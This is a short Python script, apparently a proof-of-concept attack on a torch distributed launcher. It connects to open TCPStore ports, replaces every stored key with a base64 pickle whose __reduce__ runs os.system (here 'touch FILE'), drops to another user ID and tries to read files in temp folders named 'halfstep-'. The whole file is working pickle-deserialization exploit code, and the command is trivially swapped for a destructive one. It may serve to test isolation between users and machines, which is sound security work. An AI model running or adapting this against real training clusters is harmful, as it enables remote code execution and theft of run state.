"""Attacks the processes of a run from another machine, or as another user: python -m ... USER_ID FILE HOST PORT...

torch's launcher can keep its state as a pickle in a store that listens on a port, and reads it at each heartbeat. This
program replaces such a state by a pickle that makes FILE. It prints what it could do: open, set, or read.
"""

import base64
import encodings.idna  # noqa: F401 (create_connection imports it, and another user cannot read its file)
import os
import pickle
import signal
import socket
import sys
import tempfile
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist


class Code:
    """A value whose pickle runs a command."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def replace_states(store: dist.TCPStore, file: str) -> None:
    code = base64.b64encode(pickle.dumps(Code(f"touch {file}")))
    for key in store.list_keys():
        store.set(key, code)
        print("set", key, flush=True)


def attack(user: int, file: str, host: str, ports: list[str]) -> None:
    os.setgid(user)
    os.setuid(user)
    for port in map(int, ports):
        try:
            socket.create_connection((host, port), timeout=3).close()
        except OSError:
            continue
        print("open", port, flush=True)
        if (child := os.fork()) == 0:
            signal.alarm(5)  # a store waits for ever for the answer of another server
            replace_states(dist.TCPStore(host, port, None, False, timedelta(seconds=3), wait_for_workers=False), file)
            os._exit(0)
        os.waitpid(child, 0)
    if user == 0:
        return  # another machine does not see the files
    for folder in Path(tempfile.gettempdir()).glob("halfstep-????????"):  # as launchers name them
        try:
            print("read", [path.read_bytes() for path in folder.iterdir()])
        except PermissionError:
            print("denied")


if __name__ == "__main__":
    user, file, host, *ports = sys.argv[1:]
    attack(int(user), file, host, ports)
